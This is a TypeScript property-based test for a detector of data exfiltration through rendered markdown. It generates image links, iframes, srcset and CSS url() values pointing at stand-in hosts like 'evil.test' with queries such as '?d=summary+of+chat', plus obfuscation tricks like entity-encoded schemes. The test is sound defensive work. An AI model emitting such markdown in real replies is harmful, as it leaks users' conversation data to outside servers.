/**
 * Differential test of what `markdown-exfiltration` reads: random markdown and HTML built from
 * the constructs of issue 14 (labels over lines, nested and escaped brackets, balanced and
 * escaped parentheses, `<…>` destinations, definitions in block quotes and list items and over
 * lines, entity-encoded schemes, `>` in attribute values, embed/object/source/video/audio/
 * iframe/link/srcset, `style` url(), `<style>`), rendered by markdown-it and marked (linkify
 * and GFM autolinks on) and micromark (CommonMark's reference behaviour); every URL with a
 * host that any of them puts in a src/href/srcset/poster/data/background/url() must be one the
 * check extracted (both sides entity-decoded by htmlparser2, percent-decoded and normalised by
 * the WHATWG URL parser). Bare URLs count as seen when asked for (`bare: true`).
 */
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { micromark } from 'micromark';
import { describe, expect, it } from 'vitest';
import { renderedLinks } from '../../../src/policy/checks/support/rendered-links.js';
import { percentDecode } from '../../../src/policy/checks/support/percent.js';
import { absolute } from '../../../src/policy/checks/support/url-data.js';

const markdownIt = new MarkdownIt({ html: true, linkify: true });
const render = {
  'markdown-it': (s: string) => markdownIt.render(s),
  marked: (s: string) => marked.parse(s, { async: false }),
  // CommonMark's reference behaviour, as react-markdown gets it (raw HTML kept).
  micromark: (s: string) => micromark(s, { allowDangerousHtml: true }),
};

/**
 * The URL a browser would request, for comparison; undefined when it has no host. Renderers
 * percent-encode what a destination may not hold (`\\` as `%5C`, spaces): both sides are
 * decoded first, and a backslash read as the slash a browser makes of it.
 */
function norm(url: string): string | undefined {
  const abs = absolute(percentDecode(url).replace(/\\/g, '/'));
  if (!abs) return undefined;
  try {
    const u = new URL(abs);
    if (!u.hostname || !/^(?:https?|ftp|wss?):$/.test(u.protocol)) return undefined;
    return percentDecode(u.href.replace(/#.*$/, '')).replace(/\+/g, ' ');
  } catch {
    return undefined;
  }
}

/** Every URL in rendered HTML that a browser would fetch or follow. */
function urlsInHtml(html: string): string[] {
  const out: string[] = [];
  // CSS as a browser reads it: escapes decoded (`\\(` is `(`, `\\75` is `u`).
  const css = (s: string) => {
    const t = s.replace(/\\([0-9a-fA-F]{1,6}\s?|[^\n0-9a-fA-F])/g, (_m, e: string) =>
      /^[0-9a-f]/i.test(e) ? String.fromCodePoint(parseInt(e, 16)) : e,
    );
    for (const m of t.matchAll(/url\(\s*(?:"([^"]*)"|'([^']*)'|([^)\s]*))/gi))
      out.push(m[1] ?? m[2] ?? m[3] ?? '');
  };
  let inStyle = false;
  const p = new Parser(
    {
      onopentag(name, attrs) {
        inStyle = name === 'style';
        for (const [k, v] of Object.entries(attrs)) {
          if (k === 'style') css(v);
          else if (k === 'srcset')
            for (const part of v.split(/,\s+/)) out.push(part.trim().split(/\s+/)[0] ?? '');
          else if (['src', 'href', 'poster', 'data', 'background'].includes(k)) out.push(v);
        }
      },
      ontext(t) {
        if (inStyle) css(t);
      },
      onclosetag() {
        inStyle = false;
      },
    },
    { decodeEntities: true },
  );
  p.write(html);
  p.end();
  return out;
}

// ---- the generator ----

const word = fc.constantFrom('a', 'alt', 'Chart', 'x y', 'data', 'ü', '1');
const label = fc.oneof(
  word,
  word.map((w) => `${w}\n${w}`),
  word.map((w) => `${w} [nested] ${w}`),
  word.map((w) => `${w} \\] ${w}`),
  word.map((w) => `\`${w}\``),
  word.map((w) => `*${w}*`),
  word.map((w) => `![${w}](https://img.test/i.png)`),
);
const host = fc.constantFrom(
  'evil.test',
  'e.test',
  'EVIL.TEST',
  'a.b.evil.test',
  'xn--bcher-kva.test',
);
const pathPart = fc.constantFrom(
  'p.png',
  '(c)',
  'wiki/Foo_(bar)',
  '\\(x',
  'x\\)y',
  'a&amp;b',
  'u=jane',
  '%5BDATA%5D',
  'ü',
  'a*b',
);
const query = fc.constantFrom(
  '',
  '?d=1',
  '?d=summary+of+chat',
  '?q=a&amp;b=2',
  '?x=%22y%22',
  '#frag',
);
const scheme = fc.constantFrom(
  'https://',
  'http://',
  '//',
  '&#104;ttps://',
  'https&colon;//',
  'HTTPS://',
  'https\\://',
);
const rawUrl = fc
  .tuple(scheme, host, fc.array(pathPart, { maxLength: 3 }), query)
  .map(([s, h, ps, q]) => `${s}${h}/${ps.join('/')}${q}`);
const spaced = fc.tuple(host, query).map(([h, q]) => `https://${h}/a b (1).png${q}`);
const title = fc.constantFrom('', ' "t"', " 't'", ' (t)', '\n"t"');
const dest = fc.oneof(
  rawUrl,
  rawUrl.map((u) => `<${u}>`),
  spaced.map((u) => `<${u}>`),
  rawUrl.map((u) => `\n  ${u}`),
);
const ref = fc.constantFrom('r', 'ref one', 'Ref\nTwo', '1');

const inline = fc
  .tuple(fc.boolean(), label, dest, title)
  .map(([img, l, d, t]) => `${img ? '!' : ''}[${l}](${d}${t})`);
const container = fc.constantFrom('', '> ', '- ', '1. ');
const useStyle = fc.constantFrom('full', 'collapsed', 'shortcut');
const reference = fc
  .tuple(fc.boolean(), label, ref, dest, useStyle, container, fc.boolean(), title, fc.boolean())
  .map(([img, l, r, d, style, box, split, t, defFirst]) => {
    const use = `${img ? '!' : ''}${style === 'full' ? `[${l}][${r}]` : style === 'collapsed' ? `[${r}][]` : `[${r}]`}`;
    const indent = ' '.repeat(box.length);
    const def = `${box}[${r}]:${split ? `\n${indent}  ` : ' '}${d.trim()}${t.replace('\n', `\n${indent}`)}`;
    return defFirst ? `${def}\n\n${use}` : `${use}\n\n${def}`;
  });
const attrValue = fc.oneof(
  rawUrl.map((u) => `"${u.replace(/"/g, '&quot;')}"`),
  rawUrl.map((u) => `'${u.replace(/'/g, '&#39;')}'`),
  rawUrl.filter((u) => !/[\s"'=<>`]/.test(u)),
);
const tag = fc.oneof(
  attrValue.map((v) => `<img alt="a > b" src=${v}>`),
  attrValue.map((v) => `<IMG SRC=${v} title='x>y'>`),
  attrValue.map((v) => `<embed src=${v}>`),
  attrValue.map((v) => `<object data=${v}></object>`),
  attrValue.map((v) => `<video poster=${v} controls><source src=${v}></video>`),
  attrValue.map((v) => `<audio src=${v}></audio>`),
  attrValue.map((v) => `<iframe src=${v}></iframe>`),
  attrValue.map((v) => `<link rel="stylesheet" href=${v}>`),
  attrValue.map((v) => `<a href=${v}>go</a>`),
  fc.tuple(rawUrl, rawUrl).map(([a, b]) => `<img srcset="${a} 1x, ${b} 2x">`),
  rawUrl.map((u) => `<div style="background:url('${u.replace(/'/g, '&#39;')}')">x</div>`),
  rawUrl.map((u) => `<style>\nbody { background: url("${u.replace(/"/g, '')}"); }\n</style>`),
);
const autolink = rawUrl.filter((u) => /^https?:\/\/[^\s<>]*$/.test(u)).map((u) => `<${u}>`);
const noise = fc.constantFrom(
  'Plain text.',
  '`code [x](y)`',
  '```\ncode\n```',
  '# Heading',
  '> quote',
  '- item',
  '*emphasis*',
  'a < b and c > d',
  '[not a link]',
  '',
);
const block = fc.oneof(inline, reference, tag, autolink, noise);
const doc = fc
  .array(fc.tuple(block, fc.constantFrom('\n\n', '\n', ' ', '')), { minLength: 1, maxLength: 6 })
  .map((bs) => bs.map(([b, sep]) => b + sep).join(''));

describe('markdown-exfiltration reads every URL markdown-it, marked and micromark render', () => {
  it.each(Object.entries(render))('%s', (_name, toHtml) => {
    fc.assert(
      fc.property(doc, (text) => {
        const seen = new Set(
          renderedLinks(text, { bare: true })
            .map((c) => norm(c.url))
            .filter((u): u is string => u !== undefined),
        );
        const bare = [...seen];
        for (const url of urlsInHtml(toHtml(text))) {
          const u = norm(url);
          if (u === undefined || seen.has(u)) continue;
          // A linkified bare URL may be trimmed differently at its end.
          const near = bare.some((s) => s.startsWith(u) || u.startsWith(s));
          expect(near, `${JSON.stringify(text)}\nrendered ${u}\nseen ${JSON.stringify(bare)}`).toBe(
            true,
          );
        }
      }),
      { numRuns: Number(process.env['EXFIL_RUNS'] ?? 400) },
    );
  });

  it.each([
    ['a label over a line', '![sum\nmary](https://evil.test/?q=3)'],
    ['balanced parentheses', '![a](https://e.test/(x)?d=1)'],
    ['a destination on the next line', '![a](\n  https://e.test/?d=1\n)'],
    ['a definition in a block quote', '> [r]: https://e.test/q?d=1\n\n![x][r]'],
    ['a definition over lines in a list item', '- [r]:\n  https://e.test/q?d=2\n\n![x][r]'],
    ['an entity-encoded scheme', '![a](&#104;ttps://e.test/?d=1)'],
    ['`>` in an attribute value', 'x <img alt="a>b" src="https://e.test/?d=1"> y'],
  ])('%s', (_n, text) => {
    const seen = new Set(renderedLinks(text, { bare: true }).map((c) => norm(c.url)));
    for (const toHtml of Object.values(render))
      for (const url of urlsInHtml(toHtml(text))) expect(seen).toContain(norm(url));
  });
});
